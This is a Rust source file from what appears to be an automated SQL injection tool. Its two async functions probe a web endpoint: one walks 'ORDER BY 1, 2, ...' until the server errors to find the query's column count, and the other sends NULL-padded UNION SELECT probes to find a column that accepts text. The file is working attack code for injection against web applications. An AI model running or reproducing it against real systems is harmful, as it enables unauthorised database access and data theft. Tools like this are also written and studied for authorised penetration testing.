//! Result-set width discovery

use crate::error::{Result, TiresiasError};
use crate::http::Oracle;
use crate::logger::Logger;
use crate::models::{StatusClass, UnionShape};

use super::payload::{self, UnionSelect};

/// Walks `ORDER BY 1, 2, ...` until the backend errors out. The first index
/// that fails is one past the column count.
///
/// `ceiling` is the widest result set that can be confirmed, so the walk goes up
/// to `ORDER BY ceiling + 1`. A failure on `ORDER BY 1` means the parameter is
/// not orderable at all and is reported as `NoColumnsFound`. Statuses that are
/// neither success nor server error are logged and the walk continues.
pub async fn resolve_column_count(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    ceiling: usize,
) -> Result<usize> {
    for column in 1..=ceiling.saturating_add(1) {
        let url = payload::to_url(base, &payload::order_by(base, column, token));
        let result = oracle.probe(&url).await?;

        match result.class() {
            StatusClass::ServerError if column == 1 => return Err(TiresiasError::NoColumnsFound),
            StatusClass::ServerError => return Ok(column - 1),
            StatusClass::Success => {}
            StatusClass::Other => log.warning(format!(
                "Unexpected status {} while checking column {column}",
                result.status
            )),
        }
    }

    Err(TiresiasError::ColumnSearchExhausted { ceiling })
}

/// Finds the first column position that accepts a string literal.
///
/// The union is padded with NULLs so only the type of the probed position
/// matters.
pub async fn locate_text_column(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    columns: usize,
    marker: &str,
) -> Result<usize> {
    let literal = payload::string_literal(marker);

    for position in 0..columns {
        let query = UnionSelect::for_shape(UnionShape::new(columns).with_slot(position), &literal);
        let url = payload::to_url(base, &query.render(base, token));
        let result = oracle.probe(&url).await?;

        if result.is_success() {
            return Ok(position);
        }
        log.debug(format!(
            "Column {position} rejected a string with {}",
            result.status
        ));
    }

    Err(TiresiasError::TextColumnNotFound { columns })
}
